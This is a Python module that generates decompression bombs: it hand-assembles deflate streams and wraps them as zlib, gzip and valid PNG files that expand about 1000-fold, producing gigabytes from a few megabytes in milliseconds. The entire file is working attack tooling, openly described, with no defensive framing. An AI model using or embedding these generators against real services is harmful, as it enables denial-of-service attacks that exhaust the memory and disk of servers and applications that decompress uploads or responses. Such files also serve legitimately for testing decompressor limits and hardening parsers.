"""Deflate bombs built without compressing anything: zlib, gzip and PNG data that inflate
about 1032:1 (zlib's best), gigabytes from a few MB, made in milliseconds."""

from __future__ import annotations

import struct
import zlib


class _Bits:
    """A deflate bit stream: fields LSB first, Huffman codes MSB first (RFC 1951, 3.1.1)."""

    def __init__(self) -> None:
        self.value = 0
        self.count = 0

    def field(self, value: int, width: int) -> None:
        self.value |= value << self.count
        self.count += width

    def code(self, code: tuple[int, int]) -> None:
        value, width = code
        self.field(int(f"{value:0{width}b}"[::-1], 2), width)

    def to_bytes(self) -> bytes:
        self.field(0, -self.count % 8)
        return self.value.to_bytes(self.count // 8, "little")


def _canonical(lengths: dict[int, int]) -> dict[int, tuple[int, int]]:
    """Canonical Huffman codes (RFC 1951, 3.2.2) for symbol -> code length."""
    codes = {}
    code = 0
    previous = 0
    for symbol, length in sorted(lengths.items(), key=lambda item: (item[1], item[0])):
        code <<= length - previous
        codes[symbol] = (code, length)
        code += 1
        previous = length
    return codes


def _lengths(symbols: list[int]) -> dict[int, int]:
    """A complete prefix code: symbol 285 (copy 258 bytes) 1 bit, the others share the rest."""
    others = sorted(set(symbols) - {285})
    size = max(len(others), 2)
    bits = (size - 1).bit_length()
    short = 2**bits - size  # this many codes one bit shorter keep the code complete
    lengths = {285: 1}
    for index, symbol in enumerate(others):
        lengths[symbol] = 1 + (bits - 1 if index < short else bits)
    if len(others) == 1:
        lengths[others[0]] = 1
    return lengths


_CL_ORDER = (16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15)


def raw_deflate(prefix: bytes, byte: int, count: int, suffix: bytes) -> bytes:
    """Raw deflate data for ``prefix + bytes([byte]) * count + suffix`` in one dynamic
    block where a 258-byte copy costs 2 bits: about 1032:1, like zlib's best."""
    copies, rest = divmod(count - 1, 258)
    literals = [*prefix, byte, *suffix]
    codes = _canonical(_lengths([*literals, 256, 285]))
    bits = _Bits()
    bits.field(1, 1)  # BFINAL
    bits.field(2, 2)  # BTYPE 10: dynamic Huffman codes
    bits.field(286 - 257, 5)  # HLIT: literal/length codes 0..285
    bits.field(0, 5)  # HDIST: one distance code
    bits.field(19 - 4, 4)  # HCLEN: all 19 code-length codes
    for symbol in _CL_ORDER:  # code-length code: lengths 0..15 with 4 bits each
        bits.field(0 if symbol >= 16 else 4, 3)
    length_codes = _canonical({symbol: 4 for symbol in range(16)})
    for symbol in range(286):
        bits.code(length_codes[codes[symbol][1] if symbol in codes else 0])
    bits.code(length_codes[1])  # distance code 0: one bit
    for value in [*prefix, byte]:
        bits.code(codes[value])
    # Symbol 285 and distance code 0 both have the one-bit code 0, so every copy is two
    # zero bits: the copies are written as a shift, not one by one.
    assert codes[285] == (0, 1)
    bits.count += 2 * copies
    for value in [byte] * rest + list(suffix):
        bits.code(codes[value])
    bits.code(codes[256])
    return bits.to_bytes()


def _adler32(prefix: bytes, byte: int, count: int, suffix: bytes) -> int:
    """Adler-32 of the run, the run's part in closed form (RFC 1950, 8.2)."""
    start = zlib.adler32(prefix)
    low, high = start & 0xFFFF, start >> 16
    high = (high + count * low + byte * count * (count + 1) // 2) % 65521
    low = (low + count * byte) % 65521
    return zlib.adler32(suffix, (high << 16) | low)


def _crc32(prefix: bytes, byte: int, count: int, suffix: bytes) -> int:
    """CRC-32 of the run, computed 16 MB at a time."""
    crc = zlib.crc32(prefix)
    chunk = bytes([byte]) * (16 << 20)
    left = count
    while left:
        piece = chunk[: min(left, len(chunk))]
        crc = zlib.crc32(piece, crc)
        left -= len(piece)
    return zlib.crc32(suffix, crc)


def zlib_bomb(count: int, byte: int = 0x20, prefix: bytes = b"", suffix: bytes = b"") -> bytes:
    """A zlib stream that inflates to ``prefix + byte * count + suffix``."""
    adler = _adler32(prefix, byte, count, suffix)
    return b"\x78\x01" + raw_deflate(prefix, byte, count, suffix) + struct.pack(">I", adler)


def gzip_bomb(count: int, byte: int = 0x20, prefix: bytes = b"", suffix: bytes = b"") -> bytes:
    """A gzip member that inflates to ``prefix + byte * count + suffix``."""
    crc = _crc32(prefix, byte, count, suffix)
    size = (len(prefix) + count + len(suffix)) & 0xFFFFFFFF
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
    return header + raw_deflate(prefix, byte, count, suffix) + struct.pack("<II", crc, size)


def png_bomb(side: int) -> bytes:
    """A valid RGBA PNG of ``side`` x ``side`` transparent pixels, compressed ~1000:1."""

    def chunk(kind: bytes, payload: bytes) -> bytes:
        crc = zlib.crc32(kind + payload)
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)

    rows = zlib_bomb(side * (1 + 4 * side), 0)  # filter byte 0 and four zero bytes a pixel
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
